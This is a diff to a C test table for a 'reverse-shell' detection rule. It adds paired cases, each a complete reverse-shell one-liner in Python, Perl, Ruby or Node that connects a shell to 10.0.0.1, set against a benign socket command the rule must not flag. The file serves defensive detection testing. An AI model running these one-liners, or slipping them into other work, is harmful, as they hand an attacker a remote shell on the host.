@@ -274,6 +274,30 @@ static const struct rule_case rule_cases[] = {
      LINES("python3\t-c\timport socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
            "4444));os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")"),
      LINES("python3\t-c\timport socket; print(socket.gethostname())")},
+    /* a SOCKS5 client written with sockets (it says "empty", runs git) is
+     * not one; the pty one-liner, perl's, ruby's and node's are */
+    {"reverse-shell",
+     LINES("python3\t-c\timport socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",9));"
+           "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"),
+     LINES("python3\t-c\timport socket,struct,subprocess;s=socket.create_connection((\"127.0.0.1\","
+           "3128));s.sendall(b\"\\x05\\x01\\x00\");assert s.recv(2)==b\"\\x05\\x00\",\"empty "
+           "reply\";subprocess.run([\"git\",\"status\"])")},
+    {"reverse-shell",
+     LINES("perl\t-e\tuse Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+           "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");"
+           "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");"),
+     LINES("perl\t-e\tuse IO::Socket; my $s = IO::Socket::INET->new(\"127.0.0.1:3128\"); "
+           "print $s->connected ? \"up\" : \"down\"; system(\"true\")")},
+    {"reverse-shell",
+     LINES("ruby\t-rsocket\t-e\tf=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf("
+           "\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
+     LINES("node\t-e\tconst net=require(\"net\");const s=net.Socket();s.connect(3128,"
+           "\"127.0.0.1\");require(\"child_process\").execSync(\"true\")")},
+    {"reverse-shell",
+     LINES("node\t-e\tvar net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn("
+           "\"/bin/sh\",[]);var c=new net.Socket();c.connect(4444,\"10.0.0.1\",function(){"
+           "c.pipe(sh.stdin);sh.stdout.pipe(c);});"),
+     LINES("python3\t-c\timport socket; print(socket.gethostname())")},
     {"reverse-shell",
      LINES("sh\t-c\trm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"),
      LINES("sh\t-c\techo hi | gzip > x.gz")},
